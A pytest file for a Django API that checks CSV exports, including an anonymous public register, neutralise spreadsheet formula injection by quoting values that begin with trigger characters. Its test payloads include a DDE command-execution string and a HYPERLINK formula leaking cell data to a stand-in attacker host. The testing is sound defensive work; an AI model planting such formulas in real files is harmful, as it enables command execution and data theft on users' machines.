"""CSV exports neutralise spreadsheet formulas (OWASP "CSV Injection"): every CSV answer, the anonymous register too."""

import csv
import io

import orjson
import pytest

from accounts.models import Role
from api.renderers import csv_neutralise
from datasets import services as dataset_services
from tests.datasets.conftest import make_dataset
from tests.purposes.conftest import RECORDS, as_role

pytestmark = pytest.mark.django_db

# The payloads of the audit: a formula, a DDE call, a HYPERLINK, and each trigger character OWASP names.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(response) -> list[str]:
    assert response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def assert_no_formula(values: list[str]) -> None:
    formulas = [value for value in values if value.startswith(TRIGGERS) and not value.lstrip("+-").isdigit()]
    assert formulas == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_with_a_trigger_gets_a_quote(payload):
    assert csv_neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", [-5, 3.5, None, True, "-5", "+1.5", "-2.5e3", "plain", "", "a=b"])
def test_numbers_and_harmless_text_are_left_alone(value):
    assert csv_neutralise(value) == value


def test_the_anonymous_register_csv_carries_no_formula(api_client, register, steward_client):
    for n, payload in enumerate(PAYLOADS):
        sensor = register(reference=f"s{n}", name=payload, description=payload)
        assert steward_client.post(f"/api/v1/sensors/{sensor['id']}/confirm/").status_code == 200
    response = api_client.get("/api/v1/public/sensors/", {"format": "csv", "page_size": 100})
    assert response.status_code == 200
    values = cells(response)
    assert_no_formula(values)
    for payload in PAYLOADS:
        assert "'" + payload.strip() in values  # kept, readable, and inert (DRF trims leading whitespace)


def test_the_records_csv_carries_no_formula(world, key_client):
    city = world["city"]
    calendar = make_dataset(city, code="event-calendar")
    calendar.collection_purposes.set([world["safety"]])
    event = {
        "observed_from": "2026-01-06T10:00:00Z",
        "observed_to": "2026-01-06T18:00:00Z",
        "event_id": "=HYPERLINK(1)",
        "event_name": "@SUM(1,2)",
        "expected_visitors": 5000,
    }
    dataset_services.records_ingest(
        caller=as_role(city, Role.INTEGRATOR),
        dataset=calendar,
        body=orjson.dumps({"records": [event]}),
        content_type="application/json",
    )
    client = key_client(city, Role.DATA_STEWARD)
    params = {"dataset": calendar.pk, "purpose": "stad-crowd-safety", "format": "csv"}
    response = client.get(RECORDS, params)
    assert response.status_code == 200, response.content
    values = cells(response)
    assert_no_formula(values)
    assert "'=HYPERLINK(1)" in values
    assert "'@SUM(1,2)" in values
